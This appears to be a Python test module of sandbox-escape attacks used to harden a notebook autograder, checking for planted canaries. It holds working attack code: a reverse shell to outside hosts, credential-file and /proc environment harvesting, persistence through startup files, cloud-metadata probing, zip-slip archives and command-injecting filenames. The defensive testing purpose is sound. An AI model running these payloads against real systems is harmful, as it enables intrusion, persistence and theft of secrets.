"""Steal the tests: classes 18 to 23.

These attacks print whatever they find. A harness plants canaries in the gradebook, the grader's
environment, neighbours' folders and the hidden checks, and looks for them in all that a submission
leaves behind: the graded notebook, its feedback, reports, tables and logs.
"""

from __future__ import annotations

import contextlib
import os
import socket
import zipfile
from pathlib import Path

from autograder.attacks.kit import (
    NOTEBOOK,
    TOPIC,
    answer_all,
    attack,
    dangerous,
    file,
    first_cell,
    hostile,
    last_cell,
    neighbours,
)

# ------------------------------------------------------------------------- 18: hooks and history


@attack(18, "A hook before each cell prints it and writes it to every folder it can reach.")
def cell_hook(folder: Path) -> None:
    """Copy what the grader runs."""
    first_cell(
        folder,
        r"""
        import pathlib
        seen = []
        def spy(info):
            seen.append(info.raw_cell)
            for place in ("/tmp", ".", "/var/tmp", "@FOLDER@", "@FOLDER@/../../.."):
                try:
                    pathlib.Path(place, "stolen.txt").write_text("\n".join(seen))
                except OSError:
                    pass
            print("\n".join(seen))
        get_ipython().events.register("pre_run_cell", spy)
        get_ipython().events.register("post_run_cell", lambda result: print(result.info))
        """,
    )


@attack(18, "In, _ih, linecache, the history database and the pending request are printed.")
def history_and_linecache(folder: Path) -> None:
    """Look up what has run."""
    last_cell(
        folder,
        """
        import inspect, linecache, sys
        shell = get_ipython()
        print(In, _ih, _oh, _i, _ii)
        for name, entry in list(linecache.cache.items()):
            if "site-packages" not in name and "/lib/python" not in name:
                print(name, "".join(entry[2])[:5000] if len(entry) > 2 else entry)
        print(shell.kernel.get_parent())
        print(list(shell.history_manager.get_range(raw=True)))
        print(sorted(shell.user_ns), sorted(shell.user_ns_hidden))
        for name, module in list(sys.modules.items()):
            if name.startswith(("autograder", "bayescnn")):
                try:
                    print(name, inspect.getsource(module))
                except Exception as error:
                    print(name, error)
        """,
    )


@attack(18, "exec, compile, json.loads and a trace function record probes and inputs as they run.")
def recorded_probes(folder: Path) -> None:
    """Listen where the probes come in, and say what was heard in a later cell."""
    first_cell(
        folder,
        """
        import builtins, json, sys
        heard = []
        _exec, _loads = builtins.exec, json.loads
        def listening_exec(source, *args, **kwargs):
            heard.append(str(source))
            return _exec(source, *args, **kwargs)
        def listening_loads(text, *args, **kwargs):
            heard.append(str(text))
            return _loads(text, *args, **kwargs)
        builtins.exec, json.loads = listening_exec, listening_loads
        def trace(frame, event, value):
            if "bayescnn" in frame.f_code.co_filename or frame.f_code.co_filename == "<string>":
                heard.append(repr(frame.f_locals)[:2000])
            return trace
        sys.settrace(trace)
        """,
    )
    last_cell(folder, "sys.settrace(None)\nprint(*heard, sep='\\n')")


# -------------------------------------------------------------------------- 19: files, /proc


@attack(19, "The whole file system is walked, and every small file outside of Python is printed.")
def walk_file_system(folder: Path) -> None:
    """Read everything that can be read."""
    first_cell(
        folder,
        r"""
        import os, sys
        library = tuple({sys.prefix, sys.base_prefix, "/usr", "/proc", "/sys", "/lib", "/dev"})
        tell = ("direct_url.json", "pyvenv.cfg")
        printed = 0
        def show(path):
            global printed
            try:
                if not os.path.isfile(path) or os.path.getsize(path) > 2**20 or printed > 2 * 10**6:
                    return
                with open(path, "rb") as file:
                    text = file.read(20_000).decode("utf-8", "replace")
                printed += len(text)
                print("#", path, os.stat(path).st_nlink, "\n" + text)
            except OSError as error:
                print("#", path, error)
        known = ["@FOLDER@"]
        while known[-1] != "/":
            known.append(os.path.dirname(known[-1]))
        for place in known:
            try:
                print(place, sorted(os.listdir(place))[:200])
            except OSError as error:
                print(place, error)
        for root, folders, names in os.walk("/"):
            if root.startswith(library):
                # What an editable installation leaves behind tells where the course lies.
                for name in names:
                    if name.endswith(".pth") or name in tell or name.startswith("__editable__"):
                        show(os.path.join(root, name))
                if root.startswith(("/proc", "/sys", "/dev")):
                    folders.clear()
                continue
            for name in names:
                show(os.path.join(root, name))
        """,
    )


@attack(19, "Everything that bears a telling name is printed: source, gradebook, checks, keys.")
def telling_names(folder: Path) -> None:
    """Look for what a course consists of, in the library's folders too."""
    first_cell(
        folder,
        """
        import os
        words = ("gradebook", "nbgrader_config", "kl_weight", "selfcheck", "autograder", "hidden",
            "judge", "journal", "results", "id_rsa", "credential", "token", "shadow", "history")
        total = 0
        for root, folders, names in os.walk("/"):
            if root in ("/proc", "/sys"):
                folders.clear()
            for name in names:
                path = os.path.join(root, name)
                if not any(word in path.lower() for word in words) or "keras" in path:
                    continue
                try:
                    if not os.path.isfile(path):
                        continue
                    with open(path, "rb") as file:
                        text = file.read(30_000)
                except OSError as error:
                    print(path, error)
                    continue
                total += len(text)
                if total < 2 * 10**6:
                    print("#", path, text.decode("utf-8", "replace"))
        """,
    )


@attack(19, "The environment, the arguments, limits, mounts and host are printed.")
def environment_and_arguments(folder: Path) -> None:
    """Read what the process was started with, and where."""
    first_cell(
        folder,
        r"""
        import os, platform, pwd, sys
        print(dict(os.environ), sys.argv, sys.path, sys.orig_argv, sys.flags)
        print(os.getcwd(), os.getuid(), os.getgroups(), os.getppid(), platform.uname())
        for name in ("environ", "cmdline", "mounts", "mountinfo", "cgroup", "limits", "status",
                "maps", "auxv", "uid_map", "attr/current"):
            try:
                with open("/proc/self/" + name, "rb") as file:
                    print("#", name,
                        file.read(100_000).replace(b"\0", b"\n").decode("utf-8", "replace"))
            except OSError as error:
                print(name, error)
        import ctypes
        # The C library's own copy outlives os.environ.clear() in a parent that was forked.
        libc = ctypes.CDLL(None)
        environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
        index = 0
        while environ[index]:
            print(environ[index])
            index += 1
        """,
    )


@attack(19, "Arguments, environment, roots and open files of all processes are printed.")
def other_processes(folder: Path) -> None:
    """Read /proc of whoever can be seen."""
    first_cell(
        folder,
        r"""
        import os
        for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
            for name in ("cmdline", "environ", "status",
                "mountinfo", "stack", "net/unix", "net/tcp"):
                try:
                    with open(f"/proc/{pid}/{name}", "rb") as file:
                        print("#", pid, name,
                            file.read(20_000).replace(b"\0", b"\n").decode("utf-8", "replace"))
                except OSError as error:
                    print("#", pid, name, error)
            for name in ("cwd", "exe", "root"):
                try:
                    print(pid, name, os.readlink(f"/proc/{pid}/{name}"),
                        os.listdir(f"/proc/{pid}/{name}/"))
                except OSError as error:
                    print(pid, name, error)
            try:
                for fd in os.listdir(f"/proc/{pid}/fd"):
                    path = f"/proc/{pid}/fd/{fd}"
                    print(path, os.readlink(path))
                    if os.path.isfile(path):
                        print(open(path, "rb").read(20_000).decode("utf-8", "replace"))
            except OSError as error:
                print(pid, error)
        """,
    )


@attack(19, "Every inherited file descriptor is read, written to, walked from and passed on.")
def open_descriptors(folder: Path) -> None:
    """Use what a parent forgot to close."""
    first_cell(
        folder,
        dangerous(
            r"""
            import fcntl, os, socket, stat
            def tried(what, function, *args):
                try:
                    print(what, repr(function(*args))[:5000])
                except (OSError, ValueError) as error:
                    print(what, error)
            for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
                try:
                    target, mode = os.readlink(f"/proc/self/fd/{fd}"), os.fstat(fd).st_mode
                    flags = fcntl.fcntl(fd, fcntl.F_GETFL)
                except OSError as error:
                    print(fd, error)
                    continue
                print("#", fd, target, oct(mode), oct(flags))
                if stat.S_ISDIR(mode):
                    for way in (".", "..", "../..", "../../..", "../../../etc"):
                        tried(way, lambda: os.listdir(os.open(way, os.O_RDONLY, dir_fd=fd)))
                    tried("fchdir", os.fchdir, fd)
                    tried("here", os.listdir, "..")
                elif stat.S_ISREG(mode):
                    tried("read", os.pread, fd, 20_000, 0)
                    if fd > 2:
                        tried("write", os.write, fd, b"know-descriptor-written")
                        tried("reopen", open, f"/proc/self/fd/{fd}", "w")
                elif fd > 2 and not target.startswith("anon_inode"):
                    os.set_blocking(fd, False)
                    tried("read", os.read, fd, 20_000)
                    tried("write", os.write, fd,
                        b'{"points": 100, "status": "know-descriptor-written"}')
                    if stat.S_ISSOCK(mode):
                        peer = socket.socket(fileno=os.dup(fd))
                        try:
                            tried("name", peer.getsockname)
                            tried("peer", peer.getpeername)
                            tried("credentials", peer.getsockopt, socket.SOL_SOCKET, 17, 12)
                            tried("receive", socket.recv_fds, peer, 1000, 10)
                            tried("send", socket.send_fds, peer, [b'{"points": 100}'], [0])
                        finally:
                            peer.detach()
            """
        ),
    )


# ------------------------------------------------------------------------ 20: for a later run


@attack(20, "Checks are recorded, with the mark, in every place that a later submission might see.")
def leave_for_later(folder: Path) -> None:
    """Pass on what one submission has learnt."""
    first_cell(
        folder,
        dangerous(
            r"""
            import json, os, site, sys, tempfile, threading
            heard = ["@MARK@-left-behind"]
            places = ["/tmp", "/var/tmp", "/dev/shm", "/run",
                "/dev/mqueue", os.getcwd(), sys.prefix,
                os.path.expanduser("~/.cache"), os.path.expanduser("~/.ipython"),
                    tempfile.gettempdir(),
                "@FOLDER@", "@FOLDER@/..", "@FOLDER@/../..", *site.getsitepackages(), *sys.path]
            def leave(info=None):
                heard.append(getattr(info, "raw_cell", ""))
                for place in places:
                    try:
                        os.makedirs(place or ".", exist_ok=True)
                        with open(os.path.join(place, "know-left-behind.txt"), "w") as file:
                            file.write("\n".join(heard))
                        os.chmod(file.name, 0o666)
                    except OSError:
                        pass
            leave()
            get_ipython().events.register("pre_run_cell", leave)
            os.environ["KNOW_LEFT_BEHIND"] = heard[0]
            sys.modules["know_left_behind"] = sys
            import multiprocessing.shared_memory as shared
            try:
                memory = shared.SharedMemory("know-left-behind", create=True, size=1000)
                memory.buf[:20] = heard[0].encode()[:20].ljust(20)
            except OSError as error:
                print(error)
            """
        ),
    )


@attack(20, "Code is left in site-packages, .pth files, bytecode caches and start-up scripts.")
def leave_code(folder: Path) -> None:
    """Have code run in the next kernel, or in the grader."""
    first_cell(
        folder,
        dangerous(
            r"""
            import glob, importlib.util, os, site, sys
            text = "open('/tmp/know-left-code-ran', 'w').close()\n"
            names = ["know.pth", "sitecustomize.py", "usercustomize.py", "ipykernel_launcher.py"]
            places = [*site.getsitepackages(),
                site.getusersitepackages(), *sys.path, sys.prefix + "/bin",
                os.path.expanduser("~/.ipython/profile_default/startup"), "/etc/profile.d"]
            for place in places:
                for name in names:
                    try:
                        os.makedirs(place, exist_ok=True)
                        with open(os.path.join(place, name), "w") as file:
                            file.write(("import os; " if name.endswith(".pth") else "") + text)
                        print("wrote", file.name)
                    except OSError as error:
                        print(place, name, error)
            import json, numpy
            for module in (json, numpy, os):
                cache = importlib.util.cache_from_source(module.__file__)
                for path in (cache, module.__file__):
                    try:
                        with open(path, "ab") as file:
                            print("can write", path)
                    except OSError as error:
                        print(path, error)
            """
        ),
    )


@attack(20, "What others may have left behind is looked for and printed.")
def find_leftovers(folder: Path) -> None:
    """Collect what an earlier submission has passed on."""
    first_cell(
        folder,
        r"""
        import os, socket, sys
        for root, folders, names in os.walk("/"):
            if root in ("/proc", "/sys"):
                folders.clear()
            for name in names:
                if "know-left" in name or "stolen" in name:
                    print("FOUND", os.path.join(root, name))
                    print(open(os.path.join(root, name), errors="replace").read()[:20_000])
        print(os.environ.get("KNOW_LEFT_BEHIND"), "know_left_behind" in sys.modules)
        client = socket.socket(socket.AF_UNIX)
        try:
            client.connect("\0know-left-behind")
            print("FOUND", client.recv(1000))
        except OSError as error:
            print(error)
        import multiprocessing.shared_memory as shared
        try:
            print("FOUND", bytes(shared.SharedMemory("know-left-behind").buf[:40]))
        except OSError as error:
            print(error)
        for place in ("/tmp", "/var/tmp", "/dev/shm", "/run", os.path.expanduser("~")):
            print(place, os.listdir(place) if os.path.isdir(place) else None)
        """,
    )


@attack(20, "A detached server on abstract and file sockets hands what it heard to later kernels.")
def lingering_server(folder: Path) -> None:
    """Stay alive for the next submission."""
    first_cell(
        folder,
        dangerous(
            r"""
            import os, socket, threading, time
            if os.fork() == 0:
                os.setsid()
                if os.fork():
                    os._exit(0)
                import signal
                for number in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):
                    signal.signal(number, signal.SIG_IGN)
                server = socket.socket(socket.AF_UNIX)
                server.bind("\0know-left-behind")
                server.listen(8)
                server.settimeout(120)
                ends = time.time() + 120
                while time.time() < ends:
                    try:
                        client, _ = server.accept()
                        client.sendall(b"@MARK@-left-behind")
                        client.close()
                    except OSError:
                        break
                os._exit(0)
            """
        ),
    )


@attack(20, "The warm parent that kernels are forked from is asked, and told, whatever it accepts.")
def warm_parent(folder: Path) -> None:
    """Reach the process that the next kernel comes from."""
    first_cell(
        folder,
        dangerous(
            r"""
            import glob, json, os, signal, socket
            for line in open("/proc/net/unix").read().splitlines():
                print(line)
                name = line.split()[-1]
                if not name.startswith(("/", "@")):
                    continue
                for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                    peer = socket.socket(socket.AF_UNIX, kind)
                    peer.settimeout(0.3)
                    try:
                        peer.connect(name.replace("@", "\0", 1) if name[0] == "@" else name)
                        peer.send(
                            json.dumps({"command": ["id"], "argv": ["id"], "fork": True}).encode())
                        print("CONNECTED", name, peer.recv(1000))
                    except OSError as error:
                        print(name, error)
                    finally:
                        peer.close()
            for number in (signal.SIGUSR1, signal.SIGHUP, signal.SIGCHLD, signal.SIGSTOP):
                try:
                    os.kill(os.getppid(), number)
                    print("sent", number, "to", os.getppid())
                except OSError as error:
                    print(error)
            """
        ),
    )


# ----------------------------------------------------------------------------------- 21: network


@attack(21, "This machine, the internet, name servers and a cloud's metadata are connected to.")
def network(folder: Path) -> None:
    """Send and fetch over every kind of socket."""
    first_cell(
        folder,
        """
        import socket, urllib.request
        socket.setdefaulttimeout(1)
        hosts = ["127.0.0.1", "::1", "1.1.1.1",
            "2606:4700:4700::1111", "169.254.169.254", "10.0.2.2"]
        for host in hosts:
            for port in (22, 53, 80, 443, 5432, 8786, 8787, 8888):
                family = socket.AF_INET6 if ":" in host else socket.AF_INET
                try:
                    with socket.socket(family) as client:
                        client.connect((host, port))
                        print("CONNECTED", host, port)
                except OSError as error:
                    print(host, port, error)
        for kind, protocol in (
            (socket.SOCK_RAW, 1), (socket.SOCK_DGRAM, 17), (socket.SOCK_DGRAM, 1)):
            try:
                with socket.socket(socket.AF_INET, kind, protocol) as client:
                    print("SENT", client.sendto(b"@MARK@", ("1.1.1.1", 53)))
            except OSError as error:
                print(kind, protocol, error)
        for name in ("example.com", "mark.example.com", "localhost", socket.gethostname()):
            try:
                print(name, socket.getaddrinfo(name, 80))
            except OSError as error:
                print(name, error)
        for address in ("https://example.com", "http://169.254.169.254/latest/meta-data/"):
            try:
                print("FETCHED", urllib.request.urlopen(address, timeout=2).read(100))
            except OSError as error:
                print(address, error)
        print(socket.if_nameindex())
        print(open("/proc/net/route").read(), open("/proc/net/tcp").read())
        """,
    )


@attack(21, "A shell is offered to whoever listens outside, and to whoever connects in.")
def reverse_shell(folder: Path) -> None:
    """Open a way in."""
    first_cell(
        folder,
        dangerous(
            """
            import os, socket, subprocess, threading
            def serve(client):
                shell = subprocess.Popen(["/bin/sh"], stdin=client, stdout=client, stderr=client,
                    start_new_session=True)
                shell.wait()
            for address in (("192.0.2.1", 4444), ("127.0.0.1", 4444), ("1.1.1.1", 443)):
                try:
                    serve(socket.create_connection(address, 1))
                except OSError as error:
                    print(address, error)
            server = socket.socket()
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            server.bind(("0.0.0.0", 44444))
            server.listen()
            def accept():
                while True:
                    serve(server.accept()[0])
            threading.Thread(target=accept, daemon=True).start()
            """
        ),
    )


# -------------------------------------------------------------------------- 22: feedback channel


@attack(22, "Every function raises an error whose text carries the check's inputs and probes.")
def telling_errors(folder: Path) -> None:
    """Send the questions home in the reasons for failure."""
    answer_all(
        folder,
        """
        def everything(*args, **kwargs):
            import json, sys
            found, frame = [], sys._getframe(1)
            while frame is not None:
                for name in ("inputs", "source", "probes", "payload", "part", "truth", "check"):
                    if name in frame.f_locals:
                        found.append(f"{name}={frame.f_locals[name]!r}")
                frame = frame.f_back
            print("@MARK@", *found)
            raise RuntimeError("@MARK@ " + " ".join(found))
        """,
    )


@attack(22, "What was found is hidden in comments, invisible letters, images, metadata and timing.")
def hidden_outputs(folder: Path) -> None:
    """Send the questions home where nobody looks."""
    last_cell(
        folder,
        r"""
        import base64, json, os, struct, time, zlib
        from IPython.display import HTML, Image, display
        loot = "@MARK@" + repr(dict(os.environ)) + "".join(In)
        display(HTML(f"<!-- {loot} --><span style='display:none'>{loot}</span>"))
        invisible = "".join("\u200b" if bit == "0" else "\u200c" for c in loot.encode()
            for bit in f"{c:08b}")
        print("all well" + invisible[:100_000])
        chunk = lambda kind, data: (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data)))
        png = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"tEXt", b"Comment\0" + loot.encode()) + chunk(b"IDAT", zlib.compress(b"\0\0"))
            + chunk(b"IEND", b""))
        display(Image(png))
        display({"text/plain": "", "application/x-loot": loot}, raw=True, metadata={"loot": loot})
        time.sleep(len(loot) % 7 / 10)
        """,
    )


# ------------------------------------------------------------------------ 23: links and devices


def _replace_notebook(folder: Path) -> Path:
    path = folder / NOTEBOOK
    path.unlink()
    return path


@attack(23, "The notebook is a symbolic link to /etc/passwd.")
def linked_notebook(folder: Path) -> None:
    """Have a system file read, copied and shown."""
    _replace_notebook(folder).symlink_to("/etc/passwd")


@attack(23, "The notebook is a symbolic link to another student's.")
def linked_neighbour(folder: Path) -> None:
    """Hand in somebody else's work without having it."""
    others = neighbours(folder)
    target = os.path.relpath(others[0], folder) if others else f"../../ada/{TOPIC}/{NOTEBOOK}"
    _replace_notebook(folder).symlink_to(target)


@attack(23, "The notebook is a symbolic link to an endless device.")
def endless_device(folder: Path) -> None:
    """Have the grader read until its memory is full."""
    _replace_notebook(folder).symlink_to("/dev/zero")


@attack(
    23, "Data files are symbolic links: to the gradebook, to secrets, to folders, to themselves."
)
def linked_data(folder: Path) -> None:
    """Have other files copied into the sandbox, or into the feedback."""
    course = folder.resolve().parents[min(2, len(folder.resolve().parents) - 1)]
    links = {
        "passwd.txt": "/etc/passwd",
        "environ": "/proc/self/environ",
        "gradebook.txt": str(course / "gradebook.db"),
        "course": str(course),
        "everything": "/",
        "up": "../../..",
        "loop": "loop",
        "missing": "/no/such/file",
        "nested/again": "..",
    }
    for name, target in links.items():
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).symlink_to(target)
    first_cell(
        folder,
        """
        import os
        for name in sorted(os.listdir(".")):
            print("#", name, os.path.islink(name))
            try:
                if os.path.isdir(name):
                    print(os.listdir(name))
                elif name != "02_kl_weight.ipynb":
                    print(open(name, errors="replace").read()[:20_000])
            except OSError as error:
                print(error)
        """,
    )


@attack(23, "The folder bayescnn is a symbolic link to the whole file system.")
def linked_folder(folder: Path) -> None:
    """Have a tree copied that never ends."""
    (folder / "bayescnn").rename(folder / "bayescnn_before")
    (folder / "bayescnn").symlink_to("/")


@attack(23, "Data files are hard links to the gradebook and to a neighbour's notebook.")
def hard_linked_data(folder: Path) -> None:
    """Have other files copied by a name that is as good as their own."""
    course = folder.resolve().parents[min(2, len(folder.resolve().parents) - 1)]
    wanted = [course / "gradebook.db", *neighbours(folder)[:1]]
    for index, target in enumerate([*wanted, folder / NOTEBOOK]):
        # Another file system, or a rule against such links, may forbid it.
        with contextlib.suppress(OSError):
            os.link(target, folder / f"data-{index}.txt")
    first_cell(
        folder,
        """
        import glob
        for name in sorted(glob.glob("data-*.txt")):
            print("#", name, open(name, errors="replace").read()[:50_000])
        """,
    )


@attack(23, "The notebook is a pipe that nobody writes to.")
def pipe_notebook(folder: Path) -> None:
    """Have the grader wait forever."""
    os.mkfifo(_replace_notebook(folder))


@attack(23, "Pipes, sockets and, where allowed, devices lie among the data.")
def odd_files(folder: Path) -> None:
    """Have the grader copy what is no file."""
    os.mkfifo(folder / "data.csv")
    os.mkfifo(folder / "bayescnn" / "__init__.pyi")
    with contextlib.suppress(OSError):  # devices are for the superuser to make
        os.mknod(folder / "zero", 0o20666, os.makedev(1, 5))
    here = os.open(folder, os.O_RDONLY)
    try:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as server:
            server.bind(f"/proc/self/fd/{here}/socket")  # a socket's path must be short
    finally:
        os.close(here)


@attack(23, "The notebook is a folder, and folders bear notebooks' names.")
def folder_notebook(folder: Path) -> None:
    """Have the grader open a folder."""
    path = _replace_notebook(folder)
    path.mkdir()
    (path / NOTEBOOK).write_text("{}", encoding="utf-8")


@attack(23, "Nothing in the submission may be read, entered or changed by anyone.")
def unreadable_files(folder: Path) -> None:
    """Have the grader stumble over permissions."""
    (folder / "secret").mkdir()
    (folder / "secret" / "data.txt").write_text("x", encoding="utf-8")
    (folder / "secret" / "data.txt").chmod(0)
    (folder / "secret").chmod(0o111)
    (folder / NOTEBOOK).chmod(0)


@attack(23, "Names hold '..', quotes, line ends, escapes, options, formulas and no valid letters.")
def hostile_names(folder: Path) -> None:
    """Have names read as paths, options, commands or markup."""
    names = (
        b"..\\..\\gradebook.db",
        b"...",
        b"-rf",
        b"--config=evil.py",
        b"$(touch know-name-ran)",
        b"; touch know-name-ran",
        b"line\nend.txt",
        b"\x1b[2Jclear",
        b"\xff\xfe\x80.txt",
        b"<script>alert('know-attack-mark')<",
        b"=cmd|'-e x'!A1",
        b"x" * 255,
        b" ",
        "\u202egnp.exe".encode(),
    )
    for name in names:
        (folder / os.fsdecode(name)).write_bytes(b"x")


@attack(23, "Folders lie six hundred deep in each other.")
def deep_folders(folder: Path) -> None:
    """Have whoever walks the tree run out of stack or path."""
    path = folder
    for _ in range(600):  # one by one: making all parents at once is recursive, too
        path /= "d"
        path.mkdir()
    (path / "data.txt").write_text("deep", encoding="utf-8")


@attack(23, "An archive beside the notebook would unpack to places outside, and to petabytes.")
def zip_slip(folder: Path) -> None:
    """Have an archive write over the course."""
    with zipfile.ZipFile(folder / "submission.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        for name in (f"../../../{NOTEBOOK}", "/tmp/know-unpacked", "..\\..\\evil.py", NOTEBOOK):
            archive.writestr(name, hostile(folder, "@MARK@"))
        link = zipfile.ZipInfo("link")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr("zeros", bytes(2**24))
    file(folder, "submission.tar.gz", "not an archive")
